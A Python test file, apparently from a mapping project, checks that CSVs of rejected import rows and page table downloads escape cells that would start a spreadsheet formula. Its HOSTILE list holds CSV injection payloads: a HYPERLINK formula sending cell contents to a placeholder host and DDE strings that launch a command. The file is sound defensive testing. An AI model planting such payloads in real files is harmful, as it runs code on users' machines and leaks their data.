"""Every CSV the atlas writes opens in a spreadsheet as text: no cell runs as a formula.

Rejected rows of an import hold whatever the uploaded file held; the tables pages offer as
CSV hold names and descriptions anyone could have typed. Each is written, read back as a
spreadsheet would read it, and checked for cells that start a formula.
"""

from __future__ import annotations

import csv
import io

import pandas as pd

from geo.csvsafe import FORMULA_START, frame_csv
from loaders.ingest import run_import
from loaders.plan import ImportOptions, prepare

HOSTILE = [
    '=HYPERLINK("http://example.invalid/?"&A1,"자세히")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
]


def _cells(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))


def _formulas(rows: list[list[str]]) -> list[str]:
    return [c for row in rows for c in row if c.startswith(FORMULA_START)]


def test_rejected_rows_csv_holds_no_formula(engine, tmp_path):
    path = tmp_path / "hostile.csv"
    pd.DataFrame(
        {
            "이름": HOSTILE,
            "설명": list(reversed(HOSTILE)),
            "위도": ["=1+1", "0", "0", "91", "+37"],  # none in Seoul: every row rejected
            "경도": ["126.9", "0", "0", "0", "@127"],
        }
    ).to_csv(path, index=False)
    plan = prepare(path, ImportOptions(source="csv-hostile", kind="space", category="library"))
    report = run_import(plan, dry_run=True)
    assert len(report.rejected_rows) == len(HOSTILE)
    written = report.write_rejected(tmp_path / "rejected.csv").read_bytes()
    rows = _cells(written)
    assert _formulas(rows) == []
    # The text itself is all there, behind the quote mark spreadsheets hide.
    flat = {c for row in rows for c in row}
    assert {"'" + h for h in HOSTILE} <= flat


def test_page_tables_download_without_formulas():
    """What ``views.common.csv_download`` sends for any table a page offers as CSV."""
    df = pd.DataFrame({"name": HOSTILE, "n": range(len(HOSTILE)), "=header": HOSTILE})
    rows = _cells(frame_csv(df))
    assert _formulas(rows) == []
    assert rows[1][1] == "0" and len(rows) == len(HOSTILE) + 1  # numbers stay numbers
